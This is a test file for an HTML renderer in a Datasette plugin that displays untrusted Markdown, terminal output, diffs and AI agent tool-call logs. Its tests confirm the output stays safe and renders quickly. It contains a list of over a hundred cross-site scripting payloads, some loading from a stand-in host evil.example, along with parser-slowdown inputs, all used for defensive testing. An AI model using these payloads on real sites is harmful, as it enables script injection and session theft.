"""Untrusted text made into HTML: right, safe, and never slow."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from datasette_crystal.web import blocks, render

#: Elements and attributes that may come out, whatever went in.
ELEMENTS = {
    "a", "blockquote", "br", "code", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "s",
    "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul", "div", "mark",
}  # fmt: skip
ATTRIBUTES = {"href", "title", "rel", "class", "start", "data-language", "tabindex"}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<form><button formaction=javascript:alert(1)>x",
    "<form action=//evil.example><input name=q></form>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/c.png)}</style>",
    "<b style='position:fixed;inset:0'>x</b>",
    "<div id=location name=cookie>clobber</div>",
    "<a id=c-q name=querySelector>clobber</a>",
    "<x onclick=alert(1) tabindex=1>x</x>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--<script>--><img src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1?><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "</div></main><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "<img src=x one\x00rror=alert(1)>",
    "<img src=\"x`><script>alert(1)</script>\"` `>",
    "\"><img src=x onerror=alert(1)>",
    "' autofocus onfocus=alert(1) x='",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u2028<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "{{constructor.constructor('alert(1)')()}}",
    "{{ 7*7 }}{% raw %}",
    "${alert(1)}",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:http://x/1)",
    "[x](//evil.example)",
    "[x](/-/logout)",
    "[x](http://a.example \"title\" onmouseover=alert(1))",
    "[x](http://a.example/\"onmouseover=alert(1))",
    "[x](http://a.example 'a\" onmouseover=\"alert(1)')",
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    "<http://a.example/\"onmouseover=alert(1)>",
    "http://a.example/\"onmouseover=\"alert(1)",
    "http://a.example/'><script>alert(1)</script>",
    "![x](javascript:alert(1))",
    "![x](http://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](data:image/png;base64,AAAA)",
    "![x\" onerror=alert(1) y=\"](http://a.example)",
    "![x](x\" onerror=alert(1) y=\")",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "```html\" onmouseover=alert(1) x=\"\n<script>alert(1)</script>\n```",
    "```js\n</code></pre><script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "```<img src=x onerror=alert(1)>\nx\n```",
    "`</code><script>alert(1)</script>`",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
    "<table><tr><td style=x onclick=alert(1)>x</td></tr></table>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "**<script>alert(1)</script>**",
    "~~<script>alert(1)</script>~~",
    "\x1b[31m<script>alert(1)</script>\x1b[0m",
    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07",
    "\x1b]0;<script>alert(1)</script>\x07",
    "\x9b31m<script>alert(1)</script>",
    "<\x1b[31mscript>alert(1)</\x1b[0mscript>",
    "@@ -1 +1 @@\n-<script>alert(1)</script>\n+<img src=x onerror=alert(1)>",
    "--- <script>alert(1)</script>\n+++ <script>alert(1)</script>",
    '{"a": "<script>alert(1)</script>", "b": "</pre><img src=x onerror=alert(1)>"}',
    "\ud800<script>alert(1)</script>",
]  # fmt: skip


class Checker(HTMLParser):
    """Collects what a browser would make elements and attributes of."""

    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ELEMENTS | {"dl", "dt", "dd", "b", "i"}:
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES | {"aria-hidden"}:
                self.bad.append(f"{tag} {name}={value}")
            if name == "href" and not re.match(r"(?i)(https?:|mailto:)", value or ""):
                self.bad.append(f"{tag} {name}={value}")
            if name in ("src", "srcset", "style", "id", "name") or name.startswith("on"):
                self.bad.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        self.text += data


def check(markup: str) -> Checker:
    checker = Checker()
    checker.feed(str(markup))
    checker.close()
    assert checker.bad == []
    return checker


def shown(markup: str) -> str:
    return check(markup).text


# --------------------------------------------------------------------------- safe


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_payloads_stay_text(payload: str) -> None:
    needle = re.compile("script|alert|<", re.I)
    for made in (
        render.markdown(payload),
        render.markdown(payload, breaks=True),
        render.plain(payload),
        render.code(payload, "html"),
        render.code(payload, payload),
        render.highlight(payload, "javascript"),
        render.diff(payload),
        render.ansi(payload),
        render.mark_text(payload, needle),
    ):
        check(made)
        check(render.mark(made, needle))


def test_at_least_a_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 100


@given(st.text(max_size=400))
@settings(max_examples=200, deadline=None)
def test_any_text_is_safe(text: str) -> None:
    needle = re.compile(re.escape(text[:3]) or "x")
    for made in (render.markdown(text), render.ansi(text), render.diff(text), render.plain(text)):
        check(made)
        check(render.mark(made, needle))


_PIECES = ["<script>", "[x](", "javascript:", ")", "`", "```\n", "|", "\n", "**", "![", "]", "<", ">",
           "\"", "'", "&", "&#60;", "\x1b[1m", "\x1b]", "- ", "> ", "# ", "    ", "http://a.b/", "~~"]  # fmt: skip


@given(st.lists(st.sampled_from(_PIECES), max_size=40).map("".join))
@settings(max_examples=300, deadline=None)
def test_any_markup_is_safe(text: str) -> None:
    check(render.mark(render.markdown(text), re.compile("script|a")))
    check(render.ansi(text))


# --------------------------------------------------------------------------- quick

_DEEP = "".join(" " * (2 * depth) + "- x\n" for depth in range(300))

SLOW = {
    "wide table": "|a" * 5000 + "|\n" + "|-" * 5000 + "|\n" + "|x\n" * 100,
    "long table": "|a" * 150 + "|\n" + "|-" * 150 + "|\n" + "a\n" * 45_000,
    "narrow table": "|a|b|\n|-|-|\n" + "a\n" * 45_000,
    "images": "![" * 20_000,
    "brackets": "[" * 50_000,
    "links": "[](" * 30_000,
    "pairs": "[a](<" * 18_000,
    "references": "[a]: /x\n" * 12_000,
    "emphasis": "*a_ " * 25_000,
    "strong": "**x" * 30_000,
    "strike": "~~x" * 30_000,
    "stars": "*" * 90_000,
    "quotes": ">" * 90_000,
    "lists": "- " * 45_000,
    "numbered": "1. " * 30_000,
    "deep list": _DEEP,
    "backticks": "".join("`" * count + " " for count in range(1, 430)),
    "fences": "```a\n" * 20_000,
    "autolinks": "<http:" * 15_000,
    "addresses": "http://" * 14_000,
    "entities": "&" * 99_000,
    "backslashes": "\\" * 99_000,
    "parentheses": "[x](" + "(" * 90_000,
    "headings": "# x\n" * 25_000,
    "underlined": "a\n=\n" * 24_000,
    "escapes": "\x1b[" * 45_000,
    "open sequences": "\x1b]" * 45_000,
    "colours": "\x1b[38;2;1;2;3m" * 7_000,
    "long colour": "\x1b[" + "1;" * 45_000 + "m",
    "returns": "a\r" * 45_000,
    "html": "<a " * 30_000,
    "comments": "<!--" * 24_000,
    "nul": "\0" * 90_000,
}


@pytest.mark.parametrize("name", SLOW)
def test_no_text_is_slow(name: str) -> None:
    text = SLOW[name]
    assert len(text) <= render.MAX_MARKDOWN
    started = time.process_time()
    made = render.markdown(text)
    # the limit is half a second; the rest is room for a busy machine
    assert time.process_time() - started < 2
    check(made)
    started = time.process_time()
    render.ansi(text)
    render.diff(text)
    render.mark(render.plain(text), re.compile("a"))
    assert time.process_time() - started < 2


@pytest.mark.parametrize("lexer", sorted(set(render._LEXERS.values())))
def test_no_code_is_slow(lexer: str) -> None:
    for piece in (
        "a",
        "a ",
        "(",
        "<",
        '"',
        "'",
        "{",
        "/*",
        "a.b",
        "#",
        "\\",
        "a:",
        "$(",
        "`",
        "=a",
    ):
        text = piece * (render.MAX_HIGHLIGHT // len(piece))
        started = time.process_time()
        render.highlight(text, lexer)
        assert time.process_time() - started < 3


def test_a_page_has_one_budget() -> None:
    budget = render.Budget(0)
    started = time.process_time()
    for number in range(200):
        assert "<pre" in render.markdown(f"**{number}** " + "[" * 5_000, budget)
        assert "<span" not in render.code(f"x = {number}", "python", budget)
    assert time.process_time() - started < 1


# --------------------------------------------------------------------------- right


def test_markdown() -> None:
    made = render.markdown("# Title\n\nSome **bold**, `code` and [a link](https://example.org/).")
    assert "<h3>Title</h3>" in made
    assert "<strong>bold</strong>" in made
    assert "<code>code</code>" in made
    assert '<a href="https://example.org/" rel="noopener noreferrer nofollow">a link</a>' in made


def test_line_breaks_are_kept_where_people_type_them() -> None:
    assert "<br>" not in render.markdown("a\nb")
    assert "<br>" in render.markdown("a\nb", breaks=True)


def test_nothing_is_lost_that_markdown_would_drop() -> None:
    assert "failed" in shown(render.markdown("[ERROR]: failed"))
    assert "<!-- note -->" in shown(render.markdown("<!-- note -->"))
    assert "<system-reminder>" in shown(render.markdown("<system-reminder>x</system-reminder>"))
    assert shown(render.markdown(_DEEP)).count("x") == 300


def test_images_are_links() -> None:
    made = render.markdown("![plot](https://example.org/plot.png)")
    assert "<img" not in made
    assert 'href="https://example.org/plot.png"' in made
    assert "plot</a>" in made


def test_links_that_lead_nowhere_are_words_with_a_title() -> None:
    made = render.markdown("see [app.py](src/app.py:12)")
    assert "<a " not in made
    assert '<span class="c-ref" title="src/app.py:12">app.py</span>' in made


def test_addresses_in_running_text() -> None:
    made = render.markdown("see https://example.org/a_(b), or 见https://example.org/中，然后")
    assert 'href="https://example.org/a_(b)"' in made
    assert ">https://example.org/中</a>，然后" in made
    assert "<a " not in render.markdown("`https://example.org`")


def test_task_lists() -> None:
    assert "☐ buy tea" in render.markdown("- [ ] buy tea")
    assert "☑ boil water" in render.markdown("- [x] boil water")


def test_tables_are_aligned_by_class() -> None:
    made = render.markdown("| a | b |\n|--:|:-:|\n| 1 | 2 |")
    assert '<td class="c-right">1</td>' in made
    assert '<td class="c-center">2</td>' in made
    assert "style" not in made


def test_code_is_highlighted() -> None:
    made = render.markdown("```python\ndef f():\n    return 1  # one\n```")
    assert '<span class="h-k">def</span>' in made
    assert '<span class="h-c"># one</span>' in made
    assert 'data-language="python"' in made
    assert shown(made) == "def f():\n    return 1  # one\n"


def test_a_fence_that_says_more_than_a_language_says_it() -> None:
    made = render.markdown("```12:20:src/app.py\nimport re\n```")
    assert '<p class="c-code-name">12:20:src/app.py</p>' in made
    assert '<span class="h-k">import</span>' in made
    made = render.markdown('```js title="<b>.js"\n1\n```')
    assert '<p class="c-code-name">js title="&lt;b&gt;.js"</p>' in made
    assert 'data-language="js"' in made
    assert "c-code-name" not in render.markdown("```js\n1\n```")


def test_long_code_has_no_colours() -> None:
    text = "x = 1\n" * 2_000
    made = render.code(text, "python")
    assert "<span" not in made
    assert shown(made) == text


def test_very_long_text_is_plain() -> None:
    text = "**a** " * 20_000
    made = render.markdown(text)
    assert "<strong>" not in made
    assert shown(made) == text


def test_languages_of_files() -> None:
    assert render.language_of("/a/b.py") == "py"
    assert render.language_of("C:\\a\\b.TS") == "ts"
    assert render.language_of("Dockerfile") == "dockerfile"
    assert render.language_of("/a.py/notes") == ""


def test_diff_lines() -> None:
    made = render.diff("--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n same\n-old\n+new\n--- not a file\n")
    lines = re.findall(r'<span(?: class="([\w-]+)")?>(.*)', str(made))
    assert lines == [
        ("d-file", "--- a/x"),
        ("d-file", "+++ b/x"),
        ("d-hunk", "@@ -1,2 +1,2 @@"),
        ("", " same"),
        ("d-del", "-old"),
        ("d-add", "+new"),
        ("d-del", "--- not a file"),
    ]


def test_ansi_colours() -> None:
    assert render.ansi("\x1b[1;31mred\x1b[0m plain") == (
        '<span class="a-bold a-fg-1">red</span> plain'
    )
    assert render.ansi("\x1b[92mok\x1b[39m.") == '<span class="a-fg-10">ok</span>.'
    assert render.ansi("\x1b[44mx\x1b[49my") == '<span class="a-bg-4">x</span>y'
    # 256 colours and true colours come to the nearest of sixteen
    assert render.ansi("\x1b[38;5;196mx") == '<span class="a-fg-1">x</span>'
    assert render.ansi("\x1b[38;2;250;80;90mx") == '<span class="a-fg-9">x</span>'
    assert render.ansi("\x1b[38:5:2mx") == '<span class="a-fg-2">x</span>'


def test_other_escapes_are_dropped() -> None:
    text = "a\x1b[2Kb\x1b[10;20Hc\x1b]0;title\x07d\x1b]8;;http://e.example\x1b\\e\x1b(Bf\x1b[?25lg"
    assert render.ansi(text) == "abcdefg"
    assert render.strip_ansi(text) == "abcdefg"
    assert render.ansi("cut off \x1b[3") == "cut off "
    assert render.ansi("bell\x07 back\x08space\x00") == "bell backspace"


def test_what_was_written_over_is_gone() -> None:
    assert render.ansi("10%\r50%\r100%\ndone\r\nend") == "100%\ndone\nend"


def test_marks() -> None:
    needle = re.compile("a<b", re.I)
    assert render.mark_text("x A<B y", needle) == "x <mark>A&lt;B</mark> y"
    assert render.mark(render.markdown("x a<b y"), needle) == "<p>x <mark>a&lt;b</mark> y</p>\n"
    # neither attributes nor the inside of entities are text
    linked = render.markdown("[see](https://example.org/amp) & more")
    marked = render.mark(linked, re.compile("amp|example|href"))
    assert marked == linked


def test_the_cache_forgets() -> None:
    cache = render._Cache(1_000)
    for number in range(100):
        cache.put(str(number).encode(), render.plain("x" * 80))
    assert cache.used <= 1_000
    assert cache.used == sum(map(len, cache.entries.values()))
    assert cache.get(b"0") is None
    assert cache.get(b"99") is not None


# --------------------------------------------------------------------------- blocks


def tool(name: str, **values: object) -> dict[str, object]:
    row: dict[str, object] = {
        "id": 1,
        "title": name,
        "name": name,
        "status": "ok",
        "exit_code": None,
        "duration_ms": None,
        "input": None,
        "output": None,
        "output_end": None,
    }
    row |= values
    output = row["output"]
    row["output_length"] = len(output) if isinstance(output, str) else None
    return row


def context(needle: str = "") -> blocks.Context:
    return blocks.Context(
        cwd="/home/ana/shop",
        budget=render.Budget(5),
        needle=re.compile(needle) if needle else None,
    )


def edit(path: str = "/home/ana/shop/cart.py", **values: object) -> dict[str, object]:
    row: dict[str, object] = {
        "path": path,
        "action": "edit",
        "lines_added": 2,
        "lines_removed": 1,
        "diff": "@@ -1 +1,2 @@\n-a\n+b\n+c\n",
    }
    row |= values
    diff = row["diff"]
    row["diff_length"] = len(diff) if isinstance(diff, str) else None
    return row


def body(made: blocks.Call) -> str:
    for part in made.parts:
        check(part.html)
    return "".join(str(part.html) for part in made.parts)


def test_a_command_tells_what_happened() -> None:
    made = blocks.call(
        tool(
            "Bash",
            title="Bash: pytest -x",
            status="error",
            exit_code=1,
            duration_ms=4_000,
            input='{"command": "pytest -x", "description": "Run the tests"}',
            output="collected 3 items\n\x1b[31mFAILED test_cart.py - AssertionError\x1b[0m\n",
        ),
        [],
        context(),
    )
    assert (made.family, made.sign, made.what) == ("shell", "$", "pytest -x")
    assert made.failed
    assert not made.open
    assert made.result == "FAILED test_cart.py - AssertionError"
    assert [(badge.text, badge.css) for badge in made.badges] == [
        ("failed", "c-bad"),
        ("exit 1", "c-bad"),
        ("4 s", ""),
    ]
    assert "Run the tests" in body(made)
    assert '<span class="a-fg-1">FAILED' in body(made)


def test_an_edit_is_a_diff() -> None:
    made = blocks.call(tool("Edit", output="The file has been updated"), [edit()], context())
    assert made.what == "cart.py"
    assert [badge.text for badge in made.badges] == ["+2", "−1"]
    assert made.open
    assert '<span class="d-add">+b' in body(made)
    assert "has been updated" not in body(made)


def test_a_failed_edit_shows_why() -> None:
    made = blocks.call(
        tool("Edit", status="error", output="<tool_use_error>String not found</tool_use_error>"),
        [edit(diff=None, lines_added=None, lines_removed=None)],
        context(),
    )
    assert made.failed
    assert made.result == "String not found"
    assert "String not found" in body(made)


def test_several_files_in_one_call() -> None:
    made = blocks.call(
        tool("apply_patch"), [edit(), edit("/home/ana/shop/b.py"), edit("/etc/hosts")], context()
    )
    assert made.what == "cart.py and 2 more"
    assert [part.label for part in made.parts] == ["cart.py", "b.py", "/etc/hosts"]


@pytest.mark.parametrize(
    ("name", "input_"),
    [
        ("TodoWrite", '{"todos":[{"content":"A","status":"completed"},{"content":"B"}]}'),
        ("update_plan", '{"plan":[{"step":"A","status":"completed"},{"step":"B"}]}'),
        ("manage_todo_list", '{"todoList":[{"title":"A","status":"completed"},{"title":"B"}]}'),
    ],
)
def test_lists_of_things_to_do(name: str, input_: str) -> None:
    made = blocks.call(tool(name, input=input_), [], context())
    assert made.family == "todo"
    assert made.open
    assert made.what == "1 of 2 done"
    assert re.findall(r'<li class="c-(\w+)">', body(made)) == ["done", "open"]


def test_questions_with_answers() -> None:
    questions = (
        '{"questions":[{"question":"Where?","options":[{"label":"Here"},{"label":"There"}]},'
        '{"question":"Which?","options":["A","B","C"]},{"question":"Why?"}]}'
    )
    answers = 'Answered: "Where?"="There", "Which?"="A, C", "Why?"="Because, well"'
    made = blocks.call(tool("AskUserQuestion", input=questions, output=answers), [], context())
    assert re.findall(r'class="c-chosen">.*?<b>(\w+)</b>', body(made)) == ["There", "A", "C"]
    assert '<p class="c-answer">Because, well</p>' in body(made)
    codex = blocks.call(
        tool(
            "request_user_input",
            input='{"questions":[{"id":"w","question":"Where?","options":[{"label":"Here"}]}]}',
            output='{"answers":{"w":{"answers":["Here"]}}}',
        ),
        [],
        context(),
    )
    assert re.findall(r'class="c-chosen">.*?<b>(\w+)</b>', body(codex)) == ["Here"]


def test_a_long_output_is_cut() -> None:
    output = "a" * blocks.HEAD + "b" * blocks.TAIL
    row = tool("Bash", output=output, output_end="c" * blocks.TAIL)
    row["output_length"] = 50_000
    made = blocks.call(row, [], context())
    text = shown(made.parts[-1].html)
    assert text.startswith("a" * blocks.HEAD)
    assert text.endswith("c" * blocks.TAIL)
    assert f"{50_000 - blocks.HEAD - blocks.TAIL:,} characters left out" in text
    assert made.parts[-1].note == "All 50,000 characters"


def test_a_search_opens_what_it_finds() -> None:
    row = tool("Bash", input='{"command": "ls"}', output="the zebra file")
    assert blocks.call(row, [], context("zebra")).open
    assert "<mark>zebra</mark>" in body(blocks.call(row, [], context("zebra")))
    assert not blocks.call(row, [], context("lion")).open


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_tool_calls_stay_text(payload: str) -> None:
    import json

    values = {"command": payload, payload: payload, "file_path": payload, "plan": payload}
    lists = {"todos": [{"content": payload, "status": payload}, payload], "explanation": payload}
    asked = {"questions": [{"question": payload, "options": [payload, {"label": payload}]}]}
    for name in ("Bash", "Read", "Edit", "Grep", "WebFetch", "TodoWrite", "ExitPlanMode", "Task",
                 "AskUserQuestion", payload):  # fmt: skip
        for input_ in (json.dumps(values), json.dumps(lists), json.dumps(asked), payload):
            row = tool(name, title=payload, input=input_, output=payload, status=payload)
            made = blocks.call(row, [], context("script"))
            check(made.what)
            check(made.result)
            body(made)
    made = blocks.call(tool(payload), [edit(payload, diff=payload)], context("alert"))
    check(made.what)
    body(made)


@given(st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(
        st.sampled_from(["questions", "todos", "plan", "options", "command", "question", "answers",
                         "status", "content", "description", "label", "file_path", "pattern"]),
        inner, max_size=4),
    max_leaves=12,
), st.sampled_from(["Bash", "Read", "Grep", "TodoWrite", "ExitPlanMode", "AskUserQuestion", "Agent"]))  # fmt: skip
@settings(max_examples=300, deadline=None)
def test_any_input_gives_a_call(value: object, name: str) -> None:
    import json

    text = json.dumps(value)
    body(blocks.call(tool(name, input=text, output=text), [], context("a")))


@pytest.mark.parametrize(
    ("content", "line"),
    [
        ("<task-notification>\n<summary>Agent done</summary></task-notification>", "Agent done"),
        ("<environment_context>\n  <cwd>/home/ana</cwd>", "environment context: /home/ana"),
        ("# A hook says", "# A hook says"),
        ("<only-tags></only-tags>", "<only-tags></only-tags>"),
    ],
)
def test_one_line_for_what_a_harness_wrote(content: str, line: str) -> None:
    _, summary, folded, _ = blocks.message_body(
        "notification", "title", content, len(content), context()
    )
    assert summary == line.replace("<", "&lt;").replace(">", "&gt;")
    assert folded


def test_numbers() -> None:
    assert [blocks.number(n) for n in (0, 999, 9_999, 12_345, 1_500_000, None)] == [
        "0",
        "999",
        "9,999",
        "12,345",
        "1.5 M",
        "",
    ]
    assert [blocks.duration(n) for n in (400, 1_000, 61_000, 7_500_000, 400_000_000, None)] == [
        "0.4 s",
        "1 s",
        "1 min",
        "2 h 5 min",
        "4 days",
        "",
    ]


def test_paths_below_the_working_directory() -> None:
    assert blocks.shorten_path("/home/ana/shop/a.py", "/home/ana/shop") == "a.py"
    assert blocks.shorten_path("/home/ana/shopping/a.py", "/home/ana/shop") == (
        "/home/ana/shopping/a.py"
    )
    assert blocks.shorten_path("C:\\x\\a.py", "C:\\x") == "a.py"
    assert blocks.shorten_path("/a.py", None) == "/a.py"


def test_the_start_of_a_subagent_in_the_background_is_no_result() -> None:
    def result(name: str, output: str) -> str:
        return blocks._result(name, output, {"status": "ok", "output_length": len(output)}, [])

    assert result("agent", "Async agent launched successfully. (internal)\nagentId: 1") == ""
    assert result("agent", "Done.") == "Done."
    assert result("other", "Async agent launched") == "Async agent launched"
